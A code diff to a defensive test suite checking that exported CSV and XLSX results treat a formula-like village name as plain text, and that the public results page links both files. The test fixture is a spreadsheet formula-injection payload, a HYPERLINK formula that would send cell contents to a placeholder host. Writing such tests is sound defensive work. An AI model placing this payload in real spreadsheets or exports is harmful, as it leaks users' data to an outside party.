@@ -107,7 +107,7 @@ describe('formula injection in exported spreadsheets', () => {
   it('writes the results CSV and XLSX with a formula-like village name as text', async () => {
     t = await makeTestApp();
     const village = '=HYPERLINK("http://x.invalid/?d="&B2,"Thôn Đông Sơn")';
-    const id = await publishedDecision(t, [{ code: 'DS', name: village, households: 10, returned: 9, counts: [7, 1, 1] }]);
+    const { id, slug } = await publishedDecision(t, [{ code: 'DS', name: village, households: 10, returned: 9, counts: [7, 1, 1] }]);
 
     const csv = await t.app.request(`/api/v1/campaigns/${id}/results.csv`);
     expect(csv.status).toBe(200);
@@ -122,5 +122,10 @@ describe('formula injection in exported spreadsheets', () => {
     const bytes = new Uint8Array(await xlsx.arrayBuffer());
     expect(formulaLikeCells(bytes)).toBe(3); // the village on each of its three option rows
     expect(readXlsx(bytes)[0]!.rows[1]!.cells[1]).toBe(village);
+
+    // the public page offers the workbook beside the CSV
+    const page = await (await t.app.request(`/r/${slug}`)).text();
+    expect(page).toContain(`href="/api/v1/campaigns/${id}/results.xlsx"`);
+    expect(page).toContain(`href="/api/v1/campaigns/${id}/results.csv"`);
   });
 });
